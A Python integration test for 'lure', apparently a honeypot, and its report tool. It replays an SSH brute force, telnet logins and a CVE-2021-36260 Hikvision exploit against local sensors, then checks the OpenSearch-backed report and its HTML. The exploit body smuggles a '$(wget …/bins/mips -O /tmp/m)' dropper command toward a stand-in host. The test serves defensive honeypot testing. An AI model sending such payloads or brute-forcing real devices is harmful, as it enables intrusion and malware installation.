"""A small day replayed through lure itself into a real OpenSearch node, then lure-report's numbers checked
against what was sent (and against the sensors' own NDJSON output), and the HTML opened in headless Chromium.

Four sensors (openwrt persona) ship through etc/es/lure-pipeline.json, which lure installs on first connect
(elasticsearch.pipeline_file) and names in every bulk request (elasticsearch.pipeline). Scanners, each from
its own loopback address:
  127.0.0.11  SSH brute force with paramiko on r1: 4 connections x 3 passwords for "admin" (12 failures)
  127.0.0.12  one telnet login ("support"/"support") on each of the four sensors: a mass scanner
  127.0.0.13  CVE-2021-36260 (Hikvision webLanguage injection) with a wget URL on r2: exploiter, dropper
  127.0.0.14  one plain GET / on r3
r4 is stopped after its telnet login: its heartbeats stop, the report flags it silent.
"""
import json
import socket
import subprocess
import threading
import time
import urllib.parse
from pathlib import Path

import pytest

from conftest import REPO, Sensor, get, lure_bin, start_node, wait_until

from lure_report import cli, render
from lure_report.query import Report
from lure_report.rules import Thresholds

ARTIFACTS = REPO / "build" / "report"
BRUTE, MASS, EXPL, GETTER = "127.0.0.11", "127.0.0.12", "127.0.0.13", "127.0.0.14"
DROP_URL = "http://198.51.100.7/bins/mips"
EXPLOIT_BODY = ('<?xml version="1.0" encoding="UTF-8"?><language>$(wget ' + DROP_URL +
                ' -O /tmp/m)</language>').encode()
SSH_CONNS, SSH_TRIES = 4, 3


# --- the scanners ---------------------------------------------------------------------------------------

def _sock(src, port, timeout=15):
    s = socket.socket()
    s.settimeout(timeout)
    s.bind((src, 0))
    s.connect(("127.0.0.1", port))
    return s


def _read_until(s, marks, limit=8192):
    buf = b""
    while len(buf) < limit:
        try:
            b = s.recv(1024)
        except socket.timeout:
            break
        if not b:
            break
        buf += b
        if any(m in buf for m in marks):
            break
    return buf


def ssh_brute(port, src):
    import paramiko
    n = 0
    for c in range(SSH_CONNS):
        t = paramiko.Transport(_sock(src, port))
        try:
            t.start_client(timeout=15)
            for i in range(SSH_TRIES):
                try:
                    t.auth_password("admin", f"pw{c * SSH_TRIES + i}")
                except paramiko.AuthenticationException:
                    n += 1
                except paramiko.SSHException:
                    break
        finally:
            t.close()
    return n


def telnet_login(port, src, user, password):
    s = _sock(src, port)
    try:
        assert b"login: " in _read_until(s, [b"login: "])
        s.sendall(user.encode() + b"\r\n")
        assert b"Password: " in _read_until(s, [b"Password: "])
        s.sendall(password.encode() + b"\r\n")
        assert b"Login incorrect" in _read_until(s, [b"Login incorrect"])
    finally:
        s.close()


def http(port, src, method, path, body=b""):
    s = _sock(src, port)
    try:
        s.sendall(f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: test\r\n"
                  f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n".encode() + body)
        return _read_until(s, [b"\r\n\r\n"])
    finally:
        s.close()


# --- the day --------------------------------------------------------------------------------------------

def node_count(node, sensor, action=None):
    q = {"bool": {"filter": [{"term": {"observer.name": sensor}}],
                  "must_not": [{"term": {"event.action": "status"}}]}}
    return node.count("lure-*", q)


def file_events(sensor):
    return [e for e in sensor.events() if get(e, "event.action") != "status"]


@pytest.fixture(scope="module")
def day(tmp_path_factory):
    t0 = time.monotonic()
    lure_bin()
    tmp = tmp_path_factory.mktemp("report")
    node = start_node()
    es = cli.client(node.url)
    setup_done = cli.setup(es, REPO / "etc" / "es", 7 * 86400)
    # lure itself installs the pipeline (elasticsearch.pipeline_file): take --setup's away first
    assert node.request("DELETE", "/_ingest/pipeline/lure")[0] == 200
    sensors = {}
    try:
        for sid in ("r1", "r2", "r3", "r4"):
            sensors[sid] = Sensor(tmp, sid, node.url)
        for s in sensors.values():
            s.wait_started()
        sent = {"ssh_failures": 0}
        errors = []

        def run(f, *a):
            try:
                r = f(*a)
                if f is ssh_brute:
                    sent["ssh_failures"] = r
            except Exception as e:  # noqa: BLE001 - asserted below
                errors.append(repr(e))
        threads = [threading.Thread(target=run, args=(telnet_login, s.port(23), MASS, "support", "support"))
                   for s in sensors.values()]
        threads.append(threading.Thread(target=run, args=(ssh_brute, sensors["r1"].port(22), BRUTE)))
        threads.append(threading.Thread(target=run, args=(http, sensors["r2"].port(80), EXPL, "PUT",
                                                          "/SDK/webLanguage", EXPLOIT_BODY)))
        threads.append(threading.Thread(target=run, args=(http, sensors["r3"].port(80), GETTER, "GET", "/")))
        for t in threads:
            t.start()
        for t in threads[:4]:
            t.join(60)
        # r4: two heartbeats seen and everything shipped, then it stops
        r4 = sensors["r4"]
        wait_until(lambda: sum(get(e, "event.reason") == "heartbeat" for e in r4.events()) >= 2, 20,
                   "two heartbeats of r4")
        wait_until(lambda: node_count(node, "r4") == len(file_events(r4)), 30, "r4's events in the node")
        r4.stop()
        r4_stopped = time.time()
        for t in threads[4:]:
            t.join(90)
        assert not errors, errors
        for sid, s in sensors.items():
            wait_until(lambda: node_count(node, sid) == len(file_events(s)), 30, f"{sid}'s events in the node")
        # r4 silent: more than 3 heartbeats (2 s) since its last status event
        time.sleep(max(0.0, r4_stopped + 3 * 2 + 1.5 - time.time()))
        node.refresh("lure-*")
        now = int(time.time() * 1000)
        data = Report(es, now - 3600_000, now, Thresholds()).run()
        ARTIFACTS.mkdir(parents=True, exist_ok=True)
        html = ARTIFACTS / "report.html"
        html.write_text(render.to_html(data), encoding="utf-8")
        replay_s = time.monotonic() - t0
        print(f"\nreplay + report: {replay_s:.1f}s (node start {node.startup_seconds:.1f}s), "
              f"report queries {data['seconds']}s")
        yield {"node": node, "es": es, "sensors": sensors, "data": data, "html": html, "now": now, "tmp": tmp,
               "sent": sent, "setup": setup_done}
    finally:
        for s in sensors.values():
            s.stop()
        node.close()


def source(data, ip):
    rows = [s for s in data["sources"] if s["ip"] == ip]
    assert rows, f"{ip} not among {[s['ip'] for s in data['sources']]}"
    return rows[0]


# --- enrichment ---------------------------------------------------------------------------------------

def test_setup_installed_templates_and_told_about_lifecycle(day):
    done = day["setup"]
    assert "_index_template/lure" in done and "_index_template/lure-sources" in done
    assert "_ingest/pipeline/lure" in done
    # the test node has no index management plugin: said, not failed
    assert any("ISM policy lure not installed" in d for d in done), done


def test_lure_installed_the_pipeline_and_named_it(day):
    node = day["node"]
    st, r = node.request("GET", "/_ingest/pipeline/lure")
    assert st == 200 and "processors" in r["lure"], r
    errs = "".join((day["tmp"] / f"{sid}.stderr").read_text() for sid in day["sensors"])
    assert "SHIP pipeline=installed" in errs
    # every event with a source went through it: related.ip holds the source (and the sensor's address)
    q = {"bool": {"filter": [{"exists": {"field": "source.ip"}}],
                  "must_not": [{"exists": {"field": "related.ip"}}]}}
    assert node.count("lure-*", q) == 0
    assert node.count("lure-*", {"term": {"related.ip": BRUTE}}) == node.count("lure-*", {"term": {"source.ip": BRUTE}})
    assert node.count("lure-*", {"term": {"related.user": "admin"}}) >= day["sent"]["ssh_failures"]


def test_geoip_with_the_distributions_databases(day):
    """Loopback has no location: a public address through the same pipeline, into a lure-* index."""
    node = day["node"]
    doc = {"@timestamp": day["now"] - 7200_000, "observer": {"name": "geo"}, "event": {"action": "request"},
           "source": {"ip": "8.8.8.8"}, "destination": {"ip": "127.0.0.1"}}
    st, r = node.request("PUT", "/lure-geo-test/_doc/1?pipeline=lure&refresh=true", doc)
    assert st == 201, r
    st, r = node.request("GET", "/lure-geo-test/_doc/1")
    src = r["_source"]["source"]
    assert src["geo"]["country_iso_code"] == "US" and "lat" in src["geo"]["location"], src
    assert src["as"] == {"number": 15169, "organization": {"name": "Google LLC"}}, src
    assert r["_source"]["related"]["ip"] == ["8.8.8.8", "127.0.0.1"]
    st, m = node.request("GET", "/lure-geo-test/_mapping/field/source.geo.location")
    assert m["lure-geo-test"]["mappings"]["source.geo.location"]["mapping"]["location"]["type"] == "geo_point"


# --- the report's numbers against what was sent ------------------------------------------------------

def test_events_per_sensor_equal_the_sensors_output(day):
    data = day["data"]
    got = {s["sensor"]: s["events"] for s in data["overview"]["sensors"]}
    want = {sid: len(file_events(s)) for sid, s in day["sensors"].items()}
    assert got == want
    assert data["overview"]["events"] == sum(want.values())
    for sid, buckets in data["overview"]["histogram"]["sensors"].items():
        assert sum(c for _, c in buckets) == want[sid]


def test_sources_and_their_classes(day):
    data = day["data"]
    assert sorted(s["ip"] for s in data["sources"]) == [BRUTE, MASS, EXPL, GETTER]
    b = source(data, BRUTE)
    assert day["sent"]["ssh_failures"] == SSH_CONNS * SSH_TRIES
    assert b["failed_logins"] == SSH_CONNS * SSH_TRIES and b["users"] == 1
    assert b["passwords"] == SSH_CONNS * SSH_TRIES
    assert b["classes"] == ["targeted", "brute-force:ssh"] and b["sensors"] == 1
    m = source(data, MASS)
    assert m["sensors"] == 4 and m["sensors_window"] == 4 and m["breadth"] == 1.0
    assert m["failed_logins"] == 4 and m["classes"] == ["mass-scanner", "targeted"]
    e = source(data, EXPL)
    assert e["cves"] == ["CVE-2021-36260"] and e["urls"] == [DROP_URL]
    assert e["classes"] == ["targeted", "exploiter", "dropper"]
    assert source(data, GETTER)["classes"] == ["targeted"]
    assert data["class_counts"] == {"targeted": 4, "brute-force": 1, "mass-scanner": 1, "exploiter": 1,
                                    "dropper": 1}
    assert data["summary"].startswith("4 sources made ")
    assert "1 mass scanner" in data["summary"] and "1 brute-forcer" in data["summary"]


def test_credentials(day):
    c = day["data"]["credentials"]
    assert {u["key"]: u["count"] for u in c["users"]} == {"admin": 12, "support": 4}
    assert {u["key"]: (u["count"], u["sources"]) for u in c["passwords"]}["support"] == (4, 1)
    pairs = {(p["user"], p["password"]): p["count"] for p in c["pairs"]}
    assert pairs[("support", "support")] == 4 and pairs[("admin", "pw0")] == 1 and len(pairs) == 13
    assert c["protocols"] == {"ssh": 12, "telnet": 4} and c["outcomes"] == {"failure": 16}


def test_exploits_downloads_ports_tools(day):
    d = day["data"]
    assert [(x["key"], x["count"], x["sources"]) for x in d["exploits"]] == [("CVE-2021-36260", 1, 1)]
    assert [(u["key"], u["sources"]) for u in d["downloads"]["urls"]] == [(DROP_URL, 1)]
    persona = {p["persona_port"]: p for p in d["ports"]["persona"]}
    assert set(persona) >= {22, 23, 80}
    tel = [p for p in d["ports"]["persona"] if p["persona_port"] == 23]
    assert sum(p["count"] for p in tel) == 4 and len(tel) == 4          # one port per sensor (offsets)
    hassh = d["tools"]["hassh"]
    assert len(hassh) == 1 and hassh[0]["client"].startswith("SSH-2.0-paramiko") and hassh[0]["sources"] == 1
    assert d["tools"]["scan"] == []          # no scan observation on loopback


def test_sensor_health(day):
    rows = {s["sensor"]: s for s in day["data"]["overview"]["sensors"]}
    assert set(rows) == {"r1", "r2", "r3", "r4"}
    assert rows["r4"]["silent"] is True
    for sid in ("r1", "r2", "r3"):
        assert rows[sid]["silent"] is False, rows[sid]
        assert rows[sid]["heartbeat_s"] == 2 and rows[sid]["ship_errors"] == 0 and rows[sid]["dropped"] == 0
        assert rows[sid]["spool_backlog"] is not None
    assert "Silent sensors: r4." in day["data"]["summary"]


def test_cli_formats_and_rollups(day, tmp_path):
    url = day["node"].url
    args = ["--es", url, "--since", "1h", "--until", str(day["now"])]
    assert cli.main(args + ["-o", str(tmp_path / "r.json")]) == 0
    j = json.loads((tmp_path / "r.json").read_text())
    assert j["class_counts"] == day["data"]["class_counts"] and j["overview"]["events"] == day["data"]["overview"]["events"]
    assert cli.main(args + ["-o", str(tmp_path / "r.md")]) == 0
    md = (tmp_path / "r.md").read_text()
    for _, title in render.SECTIONS:
        assert f"## {title}" in md
    assert f"| {BRUTE} |" in md
    assert cli.main(args + ["--format", "json", "--write-rollups", "--brute-failures", "12",
                            "-o", str(tmp_path / "w.json")]) == 0
    assert json.loads((tmp_path / "w.json").read_text())["rollups_written"] == 4
    idx = time.strftime("lure-sources-%Y.%m.%d", time.gmtime(day["now"] / 1000))
    st, r = day["node"].request("GET", f"/{idx}/_doc/{BRUTE}")
    assert st == 200, r
    # --brute-failures 12: twelve failures are no longer "more than" the threshold
    assert r["_source"]["lure"]["source"]["classes"] == ["targeted"]
    assert r["_source"]["lure"]["source"]["failed_logins"] == 12
    # the rollups do not count as events
    assert day["node"].count("lure-*,-lure-sources-*", {"term": {"source.ip": BRUTE}}) == \
        sum(1 for s in day["sensors"].values() for e in s.events() if get(e, "source.ip") == BRUTE)


def test_pipeline_name_is_checked(tmp_path):
    cfg = tmp_path / "c.json"
    cfg.write_text(json.dumps({"elasticsearch": {"url": "http://127.0.0.1:9", "pipeline": "a/b",
                                                 "spool": {"path": ""}}}))
    r = subprocess.run([lure_bin(), "-t", "-c", str(cfg)], capture_output=True, text=True)
    assert r.returncode != 0 and "elasticsearch.pipeline: letters, digits" in r.stderr, r.stderr
    cfg.write_text(json.dumps({"elasticsearch": {"url": "http://127.0.0.1:9", "pipeline_file": str(cfg),
                                                 "spool": {"path": ""}}}))
    r = subprocess.run([lure_bin(), "-t", "-c", str(cfg)], capture_output=True, text=True)
    assert r.returncode != 0 and "pipeline_file needs a pipeline name" in r.stderr, r.stderr


# --- the HTML in a real browser --------------------------------------------------------------------------

def test_html_in_headless_chromium(day):
    webdriver = pytest.importorskip("selenium.webdriver")
    from selenium.webdriver.chrome.service import Service
    from selenium.webdriver.common.by import By
    if not Path("/usr/bin/chromium").exists() or not Path("/usr/bin/chromedriver").exists():
        pytest.skip("Debian's chromium and chromium-driver are not installed (tools/deps.sh report)")
    opts = webdriver.ChromeOptions()
    opts.binary_location = "/usr/bin/chromium"
    for a in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage",
              "--window-size=1280,2400", f"--user-data-dir={day['tmp'] / 'chromium'}",
              "--disable-background-networking", "--no-first-run"):
        opts.add_argument(a)
    opts.set_capability("goog:loggingPrefs", {"browser": "ALL", "performance": "ALL"})
    drv = webdriver.Chrome(service=Service("/usr/bin/chromedriver"), options=opts)
    try:
        uri = day["html"].resolve().as_uri()
        drv.get("about:blank")
        drv.get_log("performance")    # the start page's own requests (chrome://new-tab-page...)
        drv.get_log("browser")
        drv.get(uri)
        for sec, title in render.SECTIONS:
            el = drv.find_element(By.ID, sec)
            assert title in el.find_element(By.TAG_NAME, "h2").text
        assert drv.find_element(By.CSS_SELECTOR, ".summary").text.startswith("4 sources made")
        assert len(drv.find_elements(By.CSS_SELECTOR, "#sensors svg rect")) >= 4
        # sort the sources table on its "failed logins" column, both ways
        table = drv.find_element(By.CSS_SELECTOR, "#sources table.sortable")
        heads = table.find_elements(By.TAG_NAME, "th")
        col = [h.text for h in heads].index("failed logins")

        def column():
            return [int(r.find_elements(By.TAG_NAME, "td")[col].get_attribute("data-v"))
                    for r in table.find_elements(By.CSS_SELECTOR, "tbody tr")]
        heads[col].click()
        assert column() == sorted(column()) and "asc" in heads[col].get_attribute("class")
        heads[col].click()
        assert column() == sorted(column(), reverse=True) and column()[0] == 12
        # the address column sorts as text
        heads[0].click()
        ips = [r.find_elements(By.TAG_NAME, "td")[0].text for r in table.find_elements(By.CSS_SELECTOR, "tbody tr")]
        assert ips == sorted(ips)
        drv.save_screenshot(str(ARTIFACTS / "report.png"))
        errors = [m for m in drv.get_log("browser") if m["level"] in ("SEVERE", "WARNING")]
        assert not errors, errors
        requests = []
        for m in drv.get_log("performance"):
            msg = json.loads(m["message"])["message"]
            if msg["method"] == "Network.requestWillBeSent":
                requests.append(msg["params"]["request"]["url"])
        assert requests and all(urllib.parse.urlsplit(u).scheme in ("file", "data") for u in requests), requests
        assert set(u for u in requests if u.startswith("file:")) == {uri}
    finally:
        drv.quit()
    assert (ARTIFACTS / "report.png").stat().st_size > 10000
